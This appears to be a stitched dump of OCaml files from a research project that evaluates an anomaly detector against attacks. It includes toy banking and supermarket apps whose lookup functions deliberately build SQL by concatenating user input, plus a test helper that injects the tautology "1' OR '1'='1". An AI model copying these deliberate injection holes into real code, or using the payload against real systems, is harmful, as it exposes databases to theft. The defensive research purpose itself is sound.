(** Rewrite the argument list of the [occurrence]-th (0-based) call to
    [callee] anywhere inside the function, in evaluation order.
    @raise Not_found when no such occurrence exists. *)

val rewrite_strings :
  Applang.Ast.program -> func:string -> (string -> string) -> Applang.Ast.program
(** Map every string literal of the function — e.g. widening a query's
    selectivity ([ID = 10] -> [ID >= 10], the Fig. 1 attack). *)

val count_calls : Applang.Ast.program -> func:string -> callee:string -> int

lib/attack/mutate.ml: Applang List

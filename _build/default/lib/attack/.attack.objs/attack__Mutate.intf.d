lib/attack/mutate.mli: Applang

lib/attack/scenario.mli: Adprom Applang Runtime

lib/attack/synthetic.ml: Adprom Analysis Array List Mlkit

lib/attack/synthetic.mli: Adprom Analysis Mlkit

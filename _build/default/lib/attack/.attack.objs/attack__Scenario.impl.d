lib/attack/scenario.ml: Adprom Applang List Runtime

(** Synthetic anomalous sequences of the scalability experiment
    (Sec. V-D): A-S1 (tail replaced by random legitimate calls), A-S2
    (foreign calls inserted), A-S3 (frequency of a legitimate call
    inflated). Each generator perturbs a normal window into an
    anomalous one; all are deterministic given the RNG. *)

val a_s1 :
  rng:Mlkit.Rng.t ->
  legitimate:Analysis.Symbol.t array ->
  Adprom.Window.t ->
  Adprom.Window.t
(** Replace the last 5 calls (fewer on short windows) with uniformly
    random legitimate calls.
    @raise Invalid_argument when [legitimate] is empty. *)

val a_s2 : rng:Mlkit.Rng.t -> Adprom.Window.t -> Adprom.Window.t
(** Overwrite 1-3 random positions with library calls that do not
    belong to the legitimate set ([evil_exfil], ...). *)

val a_s3 : rng:Mlkit.Rng.t -> Adprom.Window.t -> Adprom.Window.t
(** Pick a position in the first half and repeat its call over the
    following 5-8 slots, inflating the frequency of a legitimate call
    (the fetch/print burst signature of harvesting attacks). *)

val batch :
  rng:Mlkit.Rng.t ->
  legitimate:Analysis.Symbol.t array ->
  kind:[ `S1 | `S2 | `S3 ] ->
  count:int ->
  Adprom.Window.t list ->
  Adprom.Window.t list
(** Sample [count] windows (with replacement) from the pool and perturb
    each. @raise Invalid_argument on an empty pool. *)

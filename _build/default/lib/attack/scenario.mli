(** Attack scenarios: a subject application turned malicious by one of
    the five vectors of the evaluation (Sec. V-C). Running a scenario's
    test cases against the {e original} profile yields the traces the
    detection experiment (Table V) scores. *)

type vector =
  | Source_change of (Applang.Ast.program -> Applang.Ast.program)
      (** attacks 1-3: the attacker edits the source *)
  | Binary_patch of Runtime.Patch.t list
      (** attack 4: Dyninst-style injection into the binary *)
  | Malicious_input of (Runtime.Testcase.t -> Runtime.Testcase.t)
      (** attack 5: SQL injection through user input *)
  | Mitm of (string -> string)
      (** attack 3.2: the query is rewritten on the (unencrypted) wire
          between client and server; the binary never changes *)

type t = {
  id : string;
  description : string;
  vector : vector;
}

val apply :
  t ->
  Adprom.Pipeline.app ->
  Adprom.Pipeline.app * Runtime.Patch.t list * (string -> string) option
(** The malicious variant of the app (source possibly rewritten, test
    inputs possibly poisoned), the patches to run it under, and the
    wire-level query rewriter if the vector is a MITM. *)

val run :
  t ->
  Adprom.Pipeline.app ->
  (Runtime.Testcase.t * Runtime.Collector.trace) list
(** Execute every test case of the malicious variant. Source-changed
    and patched variants are interpreted under {e their own} analysis
    (the attacker ships a modified binary); detection still uses the
    profile trained on the original. *)

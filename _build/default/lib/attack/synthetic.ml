module Symbol = Analysis.Symbol
module Window = Adprom.Window

let copy (w : Window.t) =
  { Window.obs = Array.copy w.Window.obs; callers = Array.copy w.Window.callers }

let a_s1 ~rng ~legitimate (w : Window.t) =
  if Array.length legitimate = 0 then invalid_arg "Synthetic.a_s1: no legitimate calls";
  let w = copy w in
  let n = Array.length w.Window.obs in
  let tail = min 5 n in
  for i = n - tail to n - 1 do
    w.Window.obs.(i) <- Mlkit.Rng.pick rng legitimate
  done;
  w

let foreign_calls =
  [| "evil_exfil"; "evil_dump"; "evil_beacon"; "evil_upload" |]

let a_s2 ~rng (w : Window.t) =
  let w = copy w in
  let n = Array.length w.Window.obs in
  let hits = 1 + Mlkit.Rng.int rng (min 3 n) in
  for _ = 1 to hits do
    let pos = Mlkit.Rng.int rng n in
    w.Window.obs.(pos) <-
      Symbol.Lib { name = Mlkit.Rng.pick rng foreign_calls; label = None; site = None }
  done;
  w

let a_s3 ~rng (w : Window.t) =
  let w = copy w in
  let n = Array.length w.Window.obs in
  if n > 1 then begin
    (* A harvesting burst: a legitimate call repeated over most of the
       rest of the window (cf. the fetch/print loops of Figs. 1-2). *)
    let pos = Mlkit.Rng.int rng (max 1 (n / 2)) in
    let sym = w.Window.obs.(pos) in
    let caller = w.Window.callers.(pos) in
    let len = 5 + Mlkit.Rng.int rng 4 in
    for i = pos + 1 to min (n - 1) (pos + len) do
      w.Window.obs.(i) <- sym;
      w.Window.callers.(i) <- caller
    done
  end;
  w

let batch ~rng ~legitimate ~kind ~count pool =
  let pool = Array.of_list pool in
  if Array.length pool = 0 then invalid_arg "Synthetic.batch: empty pool";
  List.init count (fun _ ->
      let w = Mlkit.Rng.pick rng pool in
      match kind with
      | `S1 -> a_s1 ~rng ~legitimate w
      | `S2 -> a_s2 ~rng w
      | `S3 -> a_s3 ~rng w)

module Ast = Applang.Ast

let update_function p name f =
  if not (List.exists (fun (g : Ast.func) -> g.Ast.name = name) p.Ast.funcs) then
    raise Not_found;
  {
    Ast.funcs =
      List.map
        (fun (g : Ast.func) -> if g.Ast.name = name then f g else g)
        p.Ast.funcs;
  }

let insert_in_function p ~func ~at stmts =
  update_function p func (fun g ->
      let body = g.Ast.body in
      let at = max 0 (min at (List.length body)) in
      let before = List.filteri (fun i _ -> i < at) body in
      let after = List.filteri (fun i _ -> i >= at) body in
      { g with Ast.body = before @ stmts @ after })

let append_to_function p ~func stmts =
  update_function p func (fun g -> { g with Ast.body = g.Ast.body @ stmts })

let insert_in_branch p ~func ~branch stmts =
  let found = ref false in
  let rec patch_block block =
    List.map
      (fun stmt ->
        match stmt with
        | Ast.If (cond, then_, else_) when not !found ->
            found := true;
            (match branch with
            | `Then -> Ast.If (cond, then_ @ stmts, else_)
            | `Else -> Ast.If (cond, then_, else_ @ stmts))
        | Ast.If (cond, then_, else_) -> Ast.If (cond, patch_block then_, patch_block else_)
        | Ast.While (c, b) -> Ast.While (c, patch_block b)
        | Ast.For (i, c, s, b) -> Ast.For (i, c, s, patch_block b)
        | Ast.Let _ | Ast.Assign _ | Ast.Expr _ | Ast.Return _ | Ast.Break | Ast.Continue ->
            stmt)
      block
  in
  let p' = update_function p func (fun g -> { g with Ast.body = patch_block g.Ast.body }) in
  if !found then p' else raise Not_found

(* Rewrite the [occurrence]-th call to [callee] within a function, in
   evaluation order of the statements. *)
let rewrite_call_args p ~func ~callee ~occurrence rewrite =
  let seen = ref (-1) in
  let rec map_expr e =
    match e with
    | Ast.Int _ | Ast.Str _ | Ast.Bool _ | Ast.Null | Ast.Var _ -> e
    | Ast.Binop (op, a, b) -> Ast.Binop (op, map_expr a, map_expr b)
    | Ast.Unop (op, a) -> Ast.Unop (op, map_expr a)
    | Ast.Index (a, b) -> Ast.Index (map_expr a, map_expr b)
    | Ast.Call (name, args) ->
        let args = List.map map_expr args in
        if name = callee then begin
          incr seen;
          if !seen = occurrence then Ast.Call (name, rewrite args) else Ast.Call (name, args)
        end
        else Ast.Call (name, args)
  in
  let rec map_stmt s =
    match s with
    | Ast.Let (x, e) -> Ast.Let (x, map_expr e)
    | Ast.Assign (x, e) -> Ast.Assign (x, map_expr e)
    | Ast.Expr e -> Ast.Expr (map_expr e)
    | Ast.If (c, t, e) -> Ast.If (map_expr c, List.map map_stmt t, List.map map_stmt e)
    | Ast.While (c, b) -> Ast.While (map_expr c, List.map map_stmt b)
    | Ast.For (i, c, st, b) ->
        Ast.For (map_stmt i, map_expr c, map_stmt st, List.map map_stmt b)
    | Ast.Return (Some e) -> Ast.Return (Some (map_expr e))
    | Ast.Return None | Ast.Break | Ast.Continue -> s
  in
  let p' = update_function p func (fun g -> { g with Ast.body = List.map map_stmt g.Ast.body }) in
  if !seen >= occurrence then p' else raise Not_found

let rewrite_strings p ~func f =
  let rec map_expr e =
    match e with
    | Ast.Str s -> Ast.Str (f s)
    | Ast.Int _ | Ast.Bool _ | Ast.Null | Ast.Var _ -> e
    | Ast.Binop (op, a, b) -> Ast.Binop (op, map_expr a, map_expr b)
    | Ast.Unop (op, a) -> Ast.Unop (op, map_expr a)
    | Ast.Index (a, b) -> Ast.Index (map_expr a, map_expr b)
    | Ast.Call (name, args) -> Ast.Call (name, List.map map_expr args)
  in
  let rec map_stmt s =
    match s with
    | Ast.Let (x, e) -> Ast.Let (x, map_expr e)
    | Ast.Assign (x, e) -> Ast.Assign (x, map_expr e)
    | Ast.Expr e -> Ast.Expr (map_expr e)
    | Ast.If (c, t, e) -> Ast.If (map_expr c, List.map map_stmt t, List.map map_stmt e)
    | Ast.While (c, b) -> Ast.While (map_expr c, List.map map_stmt b)
    | Ast.For (i, c, st, b) ->
        Ast.For (map_stmt i, map_expr c, map_stmt st, List.map map_stmt b)
    | Ast.Return (Some e) -> Ast.Return (Some (map_expr e))
    | Ast.Return None | Ast.Break | Ast.Continue -> s
  in
  update_function p func (fun g -> { g with Ast.body = List.map map_stmt g.Ast.body })

let count_calls p ~func ~callee =
  match Ast.find_func p func with
  | None -> 0
  | Some g ->
      let count = ref 0 in
      let rec walk_expr e =
        match e with
        | Ast.Int _ | Ast.Str _ | Ast.Bool _ | Ast.Null | Ast.Var _ -> ()
        | Ast.Binop (_, a, b) | Ast.Index (a, b) ->
            walk_expr a;
            walk_expr b
        | Ast.Unop (_, a) -> walk_expr a
        | Ast.Call (name, args) ->
            if name = callee then incr count;
            List.iter walk_expr args
      in
      let rec walk_stmt s =
        match s with
        | Ast.Let (_, e) | Ast.Assign (_, e) | Ast.Expr e | Ast.Return (Some e) -> walk_expr e
        | Ast.If (c, t, e) ->
            walk_expr c;
            List.iter walk_stmt t;
            List.iter walk_stmt e
        | Ast.While (c, b) ->
            walk_expr c;
            List.iter walk_stmt b
        | Ast.For (i, c, st, b) ->
            walk_stmt i;
            walk_expr c;
            walk_stmt st;
            List.iter walk_stmt b
        | Ast.Return None | Ast.Break | Ast.Continue -> ()
      in
      List.iter walk_stmt g.Ast.body;
      !count

let source =
  {|
// Small banking client (MySQL-style API). The lookup handler is
// deliberately built by string concatenation: no prepared statement.
fun main() {
  let conn = db_connect("mysql");
  printf("== First AppLang Bank ==\n");
  let running = 1;
  while (running == 1) {
    printf("1) lookup  2) deposit  3) withdraw  4) transfer  5) statement  6) audit  7) open  8) close  9) loan  10) interest  11) alerts  0) quit\n");
    let choice = scanf_int();
    if (choice == 1) {
      lookup_client(conn);
    } else if (choice == 2) {
      deposit(conn);
    } else if (choice == 3) {
      withdraw(conn);
    } else if (choice == 4) {
      transfer(conn);
    } else if (choice == 5) {
      statement(conn);
    } else if (choice == 6) {
      audit_totals(conn);
    } else if (choice == 7) {
      open_account(conn);
    } else if (choice == 8) {
      close_account(conn);
    } else if (choice == 9) {
      loan_request(conn);
    } else if (choice == 10) {
      interest_sweep(conn);
    } else if (choice == 11) {
      alerts_report(conn);
    } else {
      running = 0;
    }
  }
  printf("bye\n");
}

fun open_account(conn) {
  printf("name: ");
  let name = scanf();
  printf("initial deposit: ");
  let amount = scanf_int();
  if (strlen(name) == 0 || amount < 0) {
    printf("invalid application\n");
    return;
  }
  let idstmt = mysql_prepare(conn, "SELECT COUNT(*) FROM clients");
  let res = mysql_stmt_execute(conn, idstmt);
  let row = mysql_fetch_row(res);
  let id = atoi(row[0]) + 100;
  let stmt = mysql_prepare(conn, "INSERT INTO clients (id, name, balance) VALUES (?, ?, ?)");
  let ins = mysql_stmt_execute(conn, stmt, id, name, amount);
  printf("opened account %d\n", id);
  record_tx(conn, id, amount, "open");
}

fun close_account(conn) {
  printf("account no: ");
  let acc = scanf_int();
  let balance = fetch_balance(conn, acc);
  if (balance < 0) {
    printf("no such account\n");
    return;
  }
  if (balance > 0) {
    printf("paying out %d\n", balance);
    record_tx(conn, acc, balance, "payout");
  }
  let stmt = mysql_prepare(conn, "DELETE FROM clients WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, acc);
  printf("account %d closed\n", acc);
  log_tx("close", acc, 0);
}

fun loan_request(conn) {
  printf("account no: ");
  let acc = scanf_int();
  printf("amount: ");
  let amount = scanf_int();
  let balance = fetch_balance(conn, acc);
  if (balance < 0) {
    printf("no such account\n");
    return;
  }
  if (amount <= 0 || amount > balance * 3) {
    printf("loan denied\n");
    log_tx("loan-denied", acc, amount);
    return;
  }
  let idstmt = mysql_prepare(conn, "SELECT COUNT(*) FROM loans");
  let res = mysql_stmt_execute(conn, idstmt);
  let row = mysql_fetch_row(res);
  let id = atoi(row[0]) + 1;
  let stmt = mysql_prepare(conn, "INSERT INTO loans (id, acc, amount, status) VALUES (?, ?, ?, 'open')");
  let ins = mysql_stmt_execute(conn, stmt, id, acc, amount);
  set_balance(conn, acc, balance + amount);
  record_tx(conn, acc, amount, "loan");
  printf("loan %d granted\n", id);
}

// month-end job: 1% interest on every account
fun interest_sweep(conn) {
  let stmt = mysql_prepare(conn, "SELECT id, balance FROM clients ORDER BY id");
  let res = mysql_stmt_execute(conn, stmt);
  let count = 0;
  let row = mysql_fetch_row(res);
  while (row != null) {
    let balance = atoi(row[1]);
    let interest = balance / 100;
    if (interest > 0) {
      set_balance(conn, atoi(row[0]), balance + interest);
      count = count + 1;
    }
    row = mysql_fetch_row(res);
  }
  printf("interest applied to %d account(s)\n", count);
  log_tx("interest", 0, count);
}

// compliance: large transactions written to the alerts file
fun alerts_report(conn) {
  let stmt = mysql_prepare(conn, "SELECT id, acc, amount FROM transactions WHERE amount >= ? ORDER BY amount DESC");
  let res = mysql_stmt_execute(conn, stmt, 200);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("no large transactions\n");
    return;
  }
  let f = fopen("alerts.log", "w");
  let count = 0;
  while (row != null) {
    fprintf(f, "tx#%s acc=%s amount=%s\n", row[0], row[1], row[2]);
    count = count + 1;
    row = mysql_fetch_row(res);
  }
  fclose(f);
  printf("%d alert(s) written\n", count);
}

// VULNERABLE: concatenates raw input into the query string.
fun lookup_client(conn) {
  printf("account no: ");
  let acc = scanf();
  let q = strcpy("SELECT id, name, balance FROM clients WHERE id='");
  q = strcat(q, acc);
  q = strcat(q, "';");
  if (mysql_query(conn, q) != 0) {
    printf("query failed\n");
    return;
  }
  let res = mysql_store_result(conn);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("no such client\n");
  }
  while (row != null) {
    printf("client %s  name=%s  balance=%s\n", row[0], row[1], row[2]);
    row = mysql_fetch_row(res);
  }
}

fun deposit(conn) {
  printf("account no: ");
  let acc = scanf_int();
  printf("amount: ");
  let amount = scanf_int();
  if (amount <= 0) {
    printf("invalid amount\n");
    return;
  }
  let balance = fetch_balance(conn, acc);
  if (balance < 0) {
    printf("no such account\n");
    return;
  }
  set_balance(conn, acc, balance + amount);
  record_tx(conn, acc, amount, "deposit");
  printf("deposited %d\n", amount);
}

fun withdraw(conn) {
  printf("account no: ");
  let acc = scanf_int();
  printf("amount: ");
  let amount = scanf_int();
  let balance = fetch_balance(conn, acc);
  if (balance < 0) {
    printf("no such account\n");
    return;
  }
  if (amount > balance) {
    printf("insufficient funds\n");
    return;
  }
  set_balance(conn, acc, balance - amount);
  record_tx(conn, acc, amount, "withdraw");
  printf("withdrew %d\n", amount);
}

fun transfer(conn) {
  printf("from account: ");
  let src = scanf_int();
  printf("to account: ");
  let dst = scanf_int();
  printf("amount: ");
  let amount = scanf_int();
  let from_balance = fetch_balance(conn, src);
  let to_balance = fetch_balance(conn, dst);
  if (from_balance < 0 || to_balance < 0) {
    printf("unknown account\n");
    return;
  }
  if (amount > from_balance) {
    printf("insufficient funds\n");
    return;
  }
  set_balance(conn, src, from_balance - amount);
  set_balance(conn, dst, to_balance + amount);
  record_tx(conn, src, amount, "transfer-out");
  record_tx(conn, dst, amount, "transfer-in");
  printf("transferred %d\n", amount);
}

fun statement(conn) {
  printf("account no: ");
  let acc = scanf_int();
  let stmt = mysql_prepare(conn,
    "SELECT id, amount, kind FROM transactions WHERE acc = ? ORDER BY id DESC LIMIT 10");
  let res = mysql_stmt_execute(conn, stmt, acc);
  let n = mysql_num_rows(res);
  printf("last %d transaction(s)\n", n);
  let row = mysql_fetch_row(res);
  while (row != null) {
    printf("  tx#%s %s %s\n", row[0], row[1], row[2]);
    row = mysql_fetch_row(res);
  }
}

fun audit_totals(conn) {
  let stmt = mysql_prepare(conn, "SELECT COUNT(*) FROM transactions");
  let res = mysql_stmt_execute(conn, stmt);
  let row = mysql_fetch_row(res);
  let sumstmt = mysql_prepare(conn, "SELECT SUM(amount) FROM transactions");
  let sumres = mysql_stmt_execute(conn, sumstmt);
  let sumrow = mysql_fetch_row(sumres);
  let f = fopen("audit.log", "a");
  if (row != null) {
    fprintf(f, "transactions=%s\n", row[0]);
  }
  if (sumrow != null) {
    fprintf(f, "volume=%s\n", sumrow[0]);
  }
  fclose(f);
  printf("audit written\n");
}

fun fetch_balance(conn, acc) {
  let stmt = mysql_prepare(conn, "SELECT balance FROM clients WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, acc);
  let row = mysql_fetch_row(res);
  if (row == null) {
    return -1;
  }
  return atoi(row[0]);
}

fun set_balance(conn, acc, balance) {
  let stmt = mysql_prepare(conn, "UPDATE clients SET balance = ? WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, balance, acc);
  return mysql_num_rows(res);
}

fun record_tx(conn, acc, amount, kind) {
  let countstmt = mysql_prepare(conn, "SELECT COUNT(*) FROM transactions");
  let res = mysql_stmt_execute(conn, countstmt);
  let row = mysql_fetch_row(res);
  let id = atoi(row[0]) + 1;
  let stmt = mysql_prepare(conn, "INSERT INTO transactions (id, acc, amount, kind) VALUES (?, ?, ?, ?)");
  let ins = mysql_stmt_execute(conn, stmt, id, acc, amount, kind);
  log_tx(kind, acc, amount);
  return mysql_num_rows(ins);
}

fun log_tx(kind, acc, amount) {
  let f = fopen("bank.log", "a");
  fprintf(f, "%s acc=%d amount=%d\n", kind, acc, amount);
  fclose(f);
}
|}

let setup_db engine =
  let exec sql = ignore (Sqldb.Engine.exec engine sql) in
  exec "CREATE TABLE clients (id, name, balance)";
  exec "CREATE TABLE transactions (id, acc, amount, kind)";
  exec "CREATE TABLE loans (id, acc, amount, status)";
  for i = 0 to 29 do
    Printf.ksprintf exec "INSERT INTO clients VALUES (%d, 'client%d', %d)" (100 + i) i
      (500 + (i * 137))
  done;
  for i = 0 to 59 do
    Printf.ksprintf exec "INSERT INTO transactions VALUES (%d, %d, %d, '%s')" (i + 1)
      (100 + (i mod 30))
      (10 + (i * 13 mod 400))
      (if i mod 2 = 0 then "deposit" else "withdraw")
  done

let tautology = "1' OR '1'='1"

let test_cases ~count ~seed =
  let rng = Mlkit.Rng.create seed in
  let acc () = string_of_int (100 + Mlkit.Rng.int rng 30) in
  let op i =
    match i with
    | 0 -> [ "1"; acc () ] (* lookup, hit *)
    | 1 -> [ "1"; "999" ] (* lookup, miss *)
    | 2 -> [ "2"; acc (); string_of_int (1 + Mlkit.Rng.int rng 200) ]
    | 3 -> [ "2"; acc (); "0" ] (* invalid amount *)
    | 4 -> [ "3"; acc (); string_of_int (1 + Mlkit.Rng.int rng 100) ]
    | 5 -> [ "3"; acc (); "100000" ] (* insufficient *)
    | 6 -> [ "4"; acc (); acc (); string_of_int (1 + Mlkit.Rng.int rng 50) ]
    | 7 -> [ "4"; "999"; acc (); "10" ] (* unknown account *)
    | 8 -> [ "5"; acc () ]
    | 9 -> [ "6" ]
    | 10 -> [ "7"; Printf.sprintf "newclient%d" (Mlkit.Rng.int rng 40); string_of_int (Mlkit.Rng.int rng 400) ]
    | 11 -> [ "7"; ""; "50" ] (* invalid application *)
    | 12 -> [ "8"; acc () ]
    | 13 -> [ "8"; "999" ] (* close unknown *)
    | 14 -> [ "9"; acc (); string_of_int (1 + Mlkit.Rng.int rng 300) ]
    | 15 -> [ "9"; acc (); "100000" ] (* loan denied *)
    | 16 -> [ "10" ]
    | _ -> [ "11" ]
  in
  List.init count (fun case ->
      let ops = 1 + Mlkit.Rng.int rng 4 in
      let script =
        List.concat (List.init ops (fun k -> op ((case + (k * 7)) mod 18))) @ [ "0" ]
      in
      Runtime.Testcase.make ~input:script ~seed:case (Printf.sprintf "bank-%03d" case))

let poison_lookup tc =
  { tc with Runtime.Testcase.input = [ "1"; tautology; "0" ];
    Runtime.Testcase.name = tc.Runtime.Testcase.name ^ "+sqli" }

let app ?(cases = 73) () =
  {
    Adprom.Pipeline.name = "App_b (banking)";
    source;
    dbms = "MySQL";
    setup_db;
    test_cases = test_cases ~count:cases ~seed:7002;
  }

let source =
  {|
// Supermarket management system (MySQL-style API).
fun main() {
  let conn = db_connect("mysql");
  printf("== SuperMarket ==\n");
  let running = 1;
  while (running == 1) {
    print_menu();
    let choice = scanf_int();
    if (choice == 1) {
      sell_item(conn);
    } else if (choice == 2) {
      add_item(conn);
    } else if (choice == 3) {
      restock(conn);
    } else if (choice == 4) {
      price_lookup(conn);
    } else if (choice == 5) {
      inventory_report(conn);
    } else if (choice == 6) {
      low_stock_report(conn);
    } else if (choice == 7) {
      sales_summary(conn);
    } else if (choice == 8) {
      supplier_list(conn);
    } else if (choice == 9) {
      return_item(conn);
    } else if (choice == 10) {
      apply_promotion(conn);
    } else if (choice == 11) {
      place_order(conn);
    } else if (choice == 12) {
      receive_order(conn);
    } else if (choice == 13) {
      top_sellers(conn);
    } else if (choice == 14) {
      shelf_audit(conn);
    } else {
      running = 0;
    }
  }
  printf("closing register\n");
}

fun print_menu() {
  printf("1) sell  2) add item  3) restock  4) price  5) inventory  6) low stock  7) sales  8) suppliers\n");
  printf("9) return  10) promotion  11) order  12) receive  13) top sellers  14) shelf audit  0) quit\n");
}

fun return_item(conn) {
  printf("sale id: ");
  let sale = scanf_int();
  let stmt = mysql_prepare(conn, "SELECT item, qty, total FROM sales WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, sale);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("unknown sale\n");
    return;
  }
  let item = atoi(row[0]);
  let qty = atoi(row[1]);
  let lookup = mysql_prepare(conn, "SELECT stock FROM items WHERE id = ?");
  let stockres = mysql_stmt_execute(conn, lookup, item);
  let stockrow = mysql_fetch_row(stockres);
  if (stockrow != null) {
    update_stock(conn, item, atoi(stockrow[0]) + qty);
  }
  let del = mysql_prepare(conn, "DELETE FROM sales WHERE id = ?");
  let done_ = mysql_stmt_execute(conn, del, sale);
  printf("refunded %s\n", row[2]);
  log_event("return", sale);
}

fun apply_promotion(conn) {
  printf("category: ");
  let cat = scanf();
  printf("percent off: ");
  let pct = scanf_int();
  if (pct <= 0 || pct >= 90) {
    printf("invalid discount\n");
    return;
  }
  let stmt = mysql_prepare(conn, "SELECT id, price FROM items WHERE category = ?");
  let res = mysql_stmt_execute(conn, stmt, cat);
  let count = 0;
  let row = mysql_fetch_row(res);
  while (row != null) {
    let price = atoi(row[1]);
    let cut = price * pct / 100;
    let upd = mysql_prepare(conn, "UPDATE items SET price = ? WHERE id = ?");
    let ok = mysql_stmt_execute(conn, upd, price - cut, atoi(row[0]));
    count = count + 1;
    row = mysql_fetch_row(res);
  }
  printf("promotion applied to %d item(s)\n", count);
  log_event("promotion", count);
}

fun place_order(conn) {
  printf("supplier id: ");
  let supplier = scanf_int();
  printf("item id: ");
  let item = scanf_int();
  printf("qty: ");
  let qty = scanf_int();
  if (qty <= 0) {
    printf("invalid quantity\n");
    return;
  }
  let idstmt = mysql_prepare(conn, "SELECT COUNT(*) FROM orders");
  let res = mysql_stmt_execute(conn, idstmt);
  let row = mysql_fetch_row(res);
  let id = atoi(row[0]) + 1;
  let stmt = mysql_prepare(conn,
    "INSERT INTO orders (id, supplier, item, qty, status) VALUES (?, ?, ?, ?, 'pending')");
  let ins = mysql_stmt_execute(conn, stmt, id, supplier, item, qty);
  printf("order %d placed\n", id);
  log_event("order", id);
}

fun receive_order(conn) {
  printf("order id: ");
  let order = scanf_int();
  let stmt = mysql_prepare(conn, "SELECT item, qty, status FROM orders WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, order);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("unknown order\n");
    return;
  }
  if (strcmp(row[2], "pending") != 0) {
    printf("order already received\n");
    return;
  }
  let item = atoi(row[0]);
  let lookup = mysql_prepare(conn, "SELECT stock FROM items WHERE id = ?");
  let stockres = mysql_stmt_execute(conn, lookup, item);
  let stockrow = mysql_fetch_row(stockres);
  if (stockrow != null) {
    update_stock(conn, item, atoi(stockrow[0]) + atoi(row[1]));
  }
  let upd = mysql_prepare(conn, "UPDATE orders SET status = 'received' WHERE id = ?");
  let ok = mysql_stmt_execute(conn, upd, order);
  printf("order %d received\n", order);
  log_event("receive", order);
}

fun top_sellers(conn) {
  let stmt = mysql_prepare(conn, "SELECT item, qty, total FROM sales ORDER BY qty DESC LIMIT 3");
  let res = mysql_stmt_execute(conn, stmt);
  printf("top sellers:\n");
  let rank = 1;
  let row = mysql_fetch_row(res);
  while (row != null) {
    printf("  #%d item %s sold %s (total %s)\n", rank, row[0], row[1], row[2]);
    rank = rank + 1;
    row = mysql_fetch_row(res);
  }
}

// physical stock-take: compare recorded stock against a scanned count
fun shelf_audit(conn) {
  printf("item id: ");
  let item = scanf_int();
  printf("counted: ");
  let counted = scanf_int();
  let stmt = mysql_prepare(conn, "SELECT name, stock FROM items WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, item);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("unknown item\n");
    return;
  }
  let recorded = atoi(row[1]);
  if (counted == recorded) {
    printf("%s: stock matches (%d)\n", row[0], recorded);
  } else {
    let f = fopen("shrinkage.log", "a");
    fprintf(f, "item %d: recorded %d counted %d\n", item, recorded, counted);
    fclose(f);
    update_stock(conn, item, counted);
    printf("%s: adjusted %d -> %d\n", row[0], recorded, counted);
  }
}

fun sell_item(conn) {
  printf("item id: ");
  let item = scanf_int();
  printf("qty: ");
  let qty = scanf_int();
  if (qty <= 0) {
    printf("invalid quantity\n");
    return;
  }
  let stmt = mysql_prepare(conn, "SELECT name, price, stock FROM items WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, item);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("unknown item\n");
    return;
  }
  let stock = atoi(row[2]);
  if (stock < qty) {
    printf("only %d in stock\n", stock);
    return;
  }
  let price = atoi(row[1]);
  let total = price * qty;
  printf("member? (y/n): ");
  let member = scanf();
  update_stock(conn, item, stock - qty);
  record_sale(conn, item, qty, total);
  if (strcmp(member, "y") == 0) {
    print_receipt_member(row[0], qty, total - (total / 10));
  } else {
    print_receipt(row[0], qty, total);
  }
}

fun print_receipt(name, qty, total) {
  printf("----------------\n");
  printf("%d x %s\n", qty, name);
  printf("TOTAL: %d\n", total);
  printf("----------------\n");
}

fun print_receipt_member(name, qty, total) {
  printf("----------------\n");
  printf("%d x %s\n", qty, name);
  printf("member price applied\n");
  printf("TOTAL: %d\n", total);
  printf("----------------\n");
}

fun add_item(conn) {
  printf("name: ");
  let name = scanf();
  printf("price: ");
  let price = scanf_int();
  printf("initial stock: ");
  let stock = scanf_int();
  printf("category: ");
  let cat = scanf();
  if (price <= 0) {
    printf("invalid price\n");
    return;
  }
  let idres = mysql_prepare(conn, "SELECT COUNT(*) FROM items");
  let res = mysql_stmt_execute(conn, idres);
  let row = mysql_fetch_row(res);
  let id = atoi(row[0]) + 1;
  let stmt = mysql_prepare(conn,
    "INSERT INTO items (id, name, price, stock, category) VALUES (?, ?, ?, ?, ?)");
  let ins = mysql_stmt_execute(conn, stmt, id, name, price, stock, cat);
  printf("added item %d\n", id);
  log_event("add-item", id);
}

fun restock(conn) {
  printf("item id: ");
  let item = scanf_int();
  printf("qty: ");
  let qty = scanf_int();
  let stmt = mysql_prepare(conn, "SELECT stock FROM items WHERE id = ?");
  let res = mysql_stmt_execute(conn, stmt, item);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("unknown item\n");
    return;
  }
  update_stock(conn, item, atoi(row[0]) + qty);
  printf("restocked\n");
  log_event("restock", item);
}

fun price_lookup(conn) {
  printf("item name: ");
  let name = scanf();
  let q = strcpy("SELECT id, name, price FROM items WHERE name LIKE '%");
  q = strcat(q, name);
  q = strcat(q, "%'");
  if (mysql_query(conn, q) != 0) {
    printf("lookup failed\n");
    return;
  }
  let res = mysql_store_result(conn);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("no match\n");
  }
  while (row != null) {
    printf("#%s %s costs %s\n", row[0], row[1], row[2]);
    row = mysql_fetch_row(res);
  }
}

fun inventory_report(conn) {
  let stmt = mysql_prepare(conn, "SELECT id, name, stock FROM items ORDER BY id");
  let res = mysql_stmt_execute(conn, stmt);
  let n = mysql_num_rows(res);
  printf("inventory: %d item(s)\n", n);
  let row = mysql_fetch_row(res);
  while (row != null) {
    printf("  #%s %s stock=%s\n", row[0], row[1], row[2]);
    row = mysql_fetch_row(res);
  }
  log_event("inventory", n);
}

fun low_stock_report(conn) {
  let stmt = mysql_prepare(conn, "SELECT id, name, stock FROM items WHERE stock < ?");
  let res = mysql_stmt_execute(conn, stmt, 10);
  let row = mysql_fetch_row(res);
  if (row == null) {
    printf("stock levels ok\n");
    return;
  }
  let f = fopen("reorder.txt", "w");
  while (row != null) {
    fprintf(f, "reorder #%s %s (have %s)\n", row[0], row[1], row[2]);
    row = mysql_fetch_row(res);
  }
  fclose(f);
  printf("reorder list written\n");
}

fun sales_summary(conn) {
